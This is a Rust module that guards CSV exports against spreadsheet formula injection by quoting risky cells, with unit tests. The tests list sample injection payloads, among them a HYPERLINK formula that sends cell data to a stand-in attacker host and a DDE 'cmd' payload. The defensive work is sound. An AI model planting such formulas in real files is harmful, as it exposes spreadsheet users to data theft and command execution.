//! CSV cells that a spreadsheet shows as text and never runs as a formula.
//!
//! Analysts open exported CSV files in Excel or LibreOffice, and a span text
//! or note from a colleague's file such as `=HYPERLINK("http://…","x")` would
//! be a live formula there. Following the OWASP rule for CSV injection, a
//! cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return gets
//! a `'` in front (spreadsheets show the rest as text and hide the `'`), and
//! every text cell is quoted, so a `;` or tab inside a cell cannot start a
//! new cell where a spreadsheet splits on it. There is no exception for
//! numbers such as `-2`: a span's text is text, and `-2+3+cmd|…` is a known
//! payload. The raw mode (`--raw`) writes every cell exactly, for programs.

use std::borrow::Cow;

/// Characters that make a spreadsheet read a cell as a formula (OWASP).
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `cell` as written: with a `'` in front if a spreadsheet would read it as a
/// formula, else unchanged.
pub fn safe_cell(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_START) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// How cells are written: neutralized for spreadsheets, or exactly.
#[derive(Debug, Clone, Copy)]
pub struct CellWriter {
    pub raw: bool,
}

impl CellWriter {
    /// A text cell (numbers we write ourselves need no treatment).
    pub fn cell<'a>(&self, text: &'a str) -> Cow<'a, str> {
        if self.raw {
            Cow::Borrowed(text)
        } else {
            safe_cell(text)
        }
    }

    /// A CSV writer into memory: text cells quoted unless raw (raw keeps the
    /// minimal quoting, byte for byte what earlier versions wrote).
    pub fn writer(&self) -> csv::Writer<Vec<u8>> {
        let style = if self.raw {
            csv::QuoteStyle::Necessary
        } else {
            csv::QuoteStyle::NonNumeric
        };
        csv::WriterBuilder::new()
            .quote_style(style)
            .from_writer(Vec::new())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_starts_get_a_quote_and_nothing_else_changes() {
        for payload in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
            "=1+1",
            "+1",
            "-2",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1",
            "=",
            "-",
        ] {
            assert_eq!(safe_cell(payload), format!("'{payload}"), "{payload:?}");
        }
        for text in [
            "1-2",
            "Bannu",
            "15 militants",
            " =1+1",
            "'=already quoted",
            "“Karak”",
            "بنوں میں",
            "🙂=1",
            "a;=1+1",
            "\n=1",
            "",
            "＝1+1",
        ] {
            assert_eq!(safe_cell(text), text, "{text:?}");
        }
    }

    #[test]
    fn raw_writes_every_cell_exactly() {
        let raw = CellWriter { raw: true };
        assert_eq!(raw.cell("=1+1"), "=1+1");
        assert_eq!(CellWriter { raw: false }.cell("=1+1"), "'=1+1");
    }
}
